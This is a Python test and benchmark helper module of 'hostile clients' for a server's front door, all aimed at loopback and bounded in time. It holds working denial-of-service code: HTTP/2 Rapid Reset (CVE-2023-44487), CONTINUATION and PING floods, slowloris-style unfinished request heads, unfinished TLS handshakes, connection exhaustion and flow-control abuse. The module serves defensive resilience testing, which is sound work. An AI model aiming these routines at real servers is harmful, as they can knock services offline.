"""Hostile clients of the front door, for its tests and bench/bench_attacks.py.

Each attack is one client on loopback, bounded in count and time, and returns what it saw;
each runs its own event loop (``asyncio.run``) so that a test or a bench thread can start
it and go on scraping meanwhile. A scraper on its own kept-alive connection says what a
real Prometheus got during the attack.
"""

from __future__ import annotations

import asyncio
import contextlib
import os
import socket
import ssl
import statistics
import struct
import threading
import time
from collections.abc import Awaitable, Callable, Iterator
from dataclasses import dataclass, field
from typing import Any, TypeVar

import httpx2

T = TypeVar("T")
HEALTHY = b"GET /-/healthy HTTP/1.1\r\nHost: x\r\n\r\n"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
ENHANCE_YOUR_CALM = 0xB


# --- running an attack beside a scraper ---------------------------------------------------------


class Background:
    """``attack()`` run in a thread of its own (its own event loop): ``with`` starts it,
    ``result()`` waits for it."""

    def __init__(self, attack: Callable[[], Awaitable[T]] | Callable[[], T]) -> None:
        self._attack = attack
        self._result: list[Any] = []
        self._thread = threading.Thread(target=self._run, daemon=True)

    def _run(self) -> None:
        outcome = self._attack()
        if asyncio.iscoroutine(outcome):
            outcome = asyncio.run(outcome)
        self._result.append(outcome)

    def __enter__(self) -> Background:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._thread.join(timeout=120)

    def result(self) -> Any:
        self._thread.join(timeout=120)
        return self._result[0] if self._result else None


@dataclass
class Scrapes:
    """What a scraper on its own kept-alive connection got: each try's status (or error
    name) and seconds."""

    statuses: list[str] = field(default_factory=list)
    seconds: list[float] = field(default_factory=list)

    @property
    def answered(self) -> float:
        """The share of tries answered 200."""
        return self.statuses.count("200") / max(1, len(self.statuses))

    @property
    def median(self) -> float:
        return statistics.median(self.seconds) if self.seconds else 0.0

    def __str__(self) -> str:
        ok = self.statuses.count("200")
        return f"{ok} of {len(self.statuses)} answered, median {self.median:.3f}s"


def scrape_every(
    url: str, every: float, seconds: float, headers: dict[str, str] | None = None, **client: Any
) -> Scrapes:
    """GET ``url`` every ``every`` s for ``seconds`` on one kept-alive client, as Prometheus
    scrapes (a connection the server closed is replaced, as Go's transport does)."""
    found = Scrapes()
    end = time.monotonic() + seconds
    with httpx2.Client(timeout=10, verify=False, **client) as http:
        while time.monotonic() < end:
            started = time.monotonic()
            try:
                status = str(http.get(url, headers=headers).status_code)
            except httpx2.HTTPError as err:
                status = type(err).__name__
            found.statuses.append(status)
            found.seconds.append(time.monotonic() - started)
            time.sleep(max(0.0, every - (time.monotonic() - started)))
    return found


# --- connections that take room and hold it ------------------------------------------------------


async def _open_many(count: int, opener: Callable[[], Awaitable[T | None]]) -> list[T]:
    """``count`` connections opened 50 at a time; those that opened."""
    opened: list[T] = []
    for start in range(0, count, 50):
        batch = await asyncio.gather(*(opener() for _ in range(min(50, count - start))))
        opened += [one for one in batch if one is not None]
    return opened


async def kept_alive(port: int, count: int, hold: float, ctx: ssl.SSLContext | None = None) -> int:
    """``count`` connections that each ask /-/healthy once and then idle for ``hold`` s;
    how many were answered."""

    async def one() -> asyncio.StreamWriter | None:
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", port, ssl=ctx)
            writer.write(HEALTHY)
            await asyncio.wait_for(reader.readuntil(b"Healthy\n"), 30)
        except (OSError, asyncio.IncompleteReadError, TimeoutError, asyncio.LimitOverrunError):
            return None
        return writer

    writers = await _open_many(count, one)
    await asyncio.sleep(hold)
    for writer in writers:
        writer.transport.abort()
    return len(writers)


def healthy_answer(conn: socket.socket) -> bytes:
    """One answer to ``HEALTHY`` read whole from ``conn`` (b"" if it was closed first)."""
    data = b""
    with contextlib.suppress(ConnectionResetError):
        while not data.endswith(b"Healthy\n") and (chunk := conn.recv(4096)):
            data += chunk
    return data


def closed(conn: socket.socket) -> bool:
    """Whether the server has closed ``conn`` (waiting for it up to its timeout)."""
    try:
        return conn.recv(4096) == b""
    except ConnectionResetError:
        return True


@contextlib.contextmanager
def raw_connections(port: int, count: int, first: bytes) -> Iterator[list[socket.socket]]:
    """``count`` sockets that each sent ``first`` and nothing more (closed after)."""
    conns: list[socket.socket] = []
    try:
        for _ in range(count):
            conn = socket.create_connection(("127.0.0.1", port), timeout=10)
            conns.append(conn)
            with contextlib.suppress(OSError):
                conn.sendall(first)
        yield conns
    finally:
        for conn in conns:
            conn.close()


UNFINISHED_HANDSHAKE = b"\x16\x03\x01\x02\x00\x01"
"""The start of a TLS ClientHello that never comes whole."""


def unfinished_heads(port: int, count: int, size: int) -> tuple[list[socket.socket], int]:
    """``count`` request heads of ``size`` bytes that never end (sockets left open); how
    many were answered 431 meanwhile."""
    line = b"X-Filler: " + b"f" * 8000 + b"\r\n"
    head = b"GET /-/healthy HTTP/1.1\r\nHost: x\r\n" + line * (size // len(line))
    conns, refused = [], 0
    for _ in range(count):
        conn = socket.create_connection(("127.0.0.1", port), timeout=10)
        conns.append(conn)
        with contextlib.suppress(OSError):
            conn.sendall(head)
    time.sleep(1)  # the server has read what it will read
    for conn in conns:
        conn.setblocking(False)
        with contextlib.suppress(OSError):
            refused += conn.recv(4096).startswith(b"HTTP/1.1 431")
    return conns, refused


# --- HTTP/2 -------------------------------------------------------------------------------------


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One HTTP/2 frame."""
    return (
        struct.pack(">I", len(payload))[1:]
        + bytes([kind, flags])
        + struct.pack(">I", stream)
        + payload
    )


def frames(data: bytes) -> tuple[list[tuple[int, int, bytes]], bytes]:
    """(type, stream, payload) of each whole frame at the start of ``data``, and the rest."""
    found = []
    while len(data) >= 9 and len(data) >= 9 + (length := int.from_bytes(data[:3], "big")):
        found.append((data[3], int.from_bytes(data[5:9], "big") & 0x7FFFFFFF, data[9 : 9 + length]))
        data = data[9 + length :]
    return found, data


@dataclass
class Flood:
    """What a flood of HTTP/2 frames on one connection met."""

    sent: int = 0
    goaway: int | None = None
    """The GOAWAY's error code, if one came."""
    closed_after: float | None = None
    """Seconds from the GOAWAY (or the flood's start) until the server closed the socket."""


def h2_tls(port: int, ctx: ssl.SSLContext) -> ssl.SSLSocket:
    """A TLS connection that chose HTTP/2 (ALPN), nothing sent on it yet."""
    ctx.set_alpn_protocols(["h2"])
    raw = socket.create_connection(("127.0.0.1", port), timeout=10)
    conn = ctx.wrap_socket(raw, server_hostname="127.0.0.1")
    assert conn.selected_alpn_protocol() == "h2"
    return conn


def h2_socket(port: int, ctx: ssl.SSLContext) -> ssl.SSLSocket:
    """A TLS connection that chose HTTP/2, its preface and SETTINGS sent."""
    conn = h2_tls(port, ctx)
    conn.sendall(PREFACE + frame(0x4, 0, 0))
    return conn


def h2_flood(
    port: int,
    ctx: ssl.SSLContext,
    unit: bytes,
    seconds: float,
    first: bytes = b"",
    quiet_after_goaway: bool = False,
) -> Flood:
    """Send ``first``, then ``unit`` (one or more frames) over and over for ``seconds`` on
    one HTTP/2 connection (once a GOAWAY came, nothing more if ``quiet_after_goaway``),
    reading what comes back, until the server has closed the socket itself: a TLS
    close_notify alone is not a close (the server may wait for ours)."""
    found = Flood()
    conn = h2_socket(port, ctx)
    conn.sendall(first)
    conn.setblocking(False)
    started = goaway_at = time.monotonic()
    pending = b""
    batch = unit * max(1, 16384 // len(unit))
    try:
        while time.monotonic() - started < seconds:
            if not (quiet_after_goaway and found.goaway is not None):
                with contextlib.suppress(ssl.SSLWantWriteError, BlockingIOError):
                    conn.send(batch)
                    found.sent += len(batch) // len(unit)
            try:
                data = conn.recv(65536)
            except (ssl.SSLWantReadError, BlockingIOError):
                time.sleep(0.001)
                continue
            if not data:
                break  # the server's close_notify: wait for the socket itself below
            parsed, pending = frames(pending + data)
            for kind, _, payload in parsed:
                if kind == 0x7 and found.goaway is None:
                    found.goaway, goaway_at = int.from_bytes(payload[4:8], "big"), time.monotonic()
    except (OSError, ssl.SSLError):
        pass
    with socket.socket(fileno=os.dup(conn.fileno())) as raw:  # the TCP socket under TLS
        while (left := seconds - (time.monotonic() - started)) > 0:
            raw.settimeout(left)
            try:
                if not raw.recv(65536):
                    break
            except TimeoutError:
                return found  # still open at the end
            except OSError:
                break
        else:
            return found
    found.closed_after = time.monotonic() - goaway_at
    conn.close()
    return found


SETTINGS = frame(0x4, 0, 0)
PING = frame(0x6, 0, 0, b"12345678")
CONTINUATION_FLOOD = frame(0x9, 0, 1, b"x" * 1000)
"""CONTINUATION frames of a header block that never ends (after ``HEADERS_BEGUN``)."""
HEADERS_BEGUN = frame(0x1, 0x0, 1, b"\x82")  # GET, the block to be continued


def request_block(path: str, headers: dict[str, str], method: str = "GET") -> list[tuple[str, str]]:
    """An HTTP/2 request's header list."""
    pseudo = [(":method", method), (":scheme", "https"), (":authority", "x"), (":path", path)]
    return pseudo + [(name.lower(), value) for name, value in headers.items()]


def rapid_reset(
    port: int, ctx: ssl.SSLContext, path: str, headers: dict[str, str], streams: int
) -> Flood:
    """Open ``streams`` requests and reset each at once (CVE-2023-44487), on one connection."""
    import hpack

    encoder = hpack.Encoder()
    block = request_block(path, headers)
    unit = b"".join(
        frame(0x1, 0x5, stream, encoder.encode(block))  # END_HEADERS | END_STREAM
        + frame(0x3, 0, stream, struct.pack(">I", 0x8))  # RST_STREAM CANCEL
        for stream in range(1, 2 * streams, 2)
    )
    conn = h2_socket(port, ctx)
    found = Flood()
    started = time.monotonic()
    try:
        conn.sendall(unit)
        found.sent = streams
        pending = b""
        while chunk := conn.recv(65536):
            parsed, pending = frames(pending + chunk)
            for kind, _, payload in parsed:
                if kind == 0x7:
                    found.goaway = int.from_bytes(payload[4:8], "big")
    except (OSError, ssl.SSLError):
        pass
    found.closed_after = time.monotonic() - started
    conn.close()
    return found


def h2_unread_body(port: int, ctx: ssl.SSLContext, path: str, total: int) -> int:
    """POST to ``path`` and, once it is answered, go on sending body data (up to ``total``
    bytes) as fast as the server's flow control lets; the bytes it let through."""
    import h2.config
    import h2.connection
    import h2.events

    client = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    client.initiate_connection()
    client.send_headers(1, request_block(path, {}, method="POST"))
    sent, answered, reset = 0, False, False
    with h2_tls(port, ctx) as conn, contextlib.suppress(OSError):  # the server closed it
        conn.sendall(client.data_to_send())
        conn.settimeout(2)
        while not reset and sent < total:
            window = min(client.local_flow_control_window(1), 16384, total - sent)
            if answered and window > 0:
                client.send_data(1, b"b" * window)
                sent += window
                conn.sendall(client.data_to_send())
                continue
            data = conn.recv(65536)  # a timeout ends it: no window reopened for 2 s
            if not data:
                break
            for event in client.receive_data(data):
                answered |= isinstance(event, h2.events.ResponseReceived)
                reset |= isinstance(event, h2.events.StreamReset)
            conn.sendall(client.data_to_send())
    return sent


__all__ = [
    "CONTINUATION_FLOOD",
    "ENHANCE_YOUR_CALM",
    "HEADERS_BEGUN",
    "HEALTHY",
    "PING",
    "SETTINGS",
    "UNFINISHED_HANDSHAKE",
    "Background",
    "Flood",
    "Scrapes",
    "closed",
    "frame",
    "frames",
    "h2_flood",
    "h2_socket",
    "h2_tls",
    "h2_unread_body",
    "healthy_answer",
    "kept_alive",
    "rapid_reset",
    "raw_connections",
    "request_block",
    "scrape_every",
    "unfinished_heads",
]
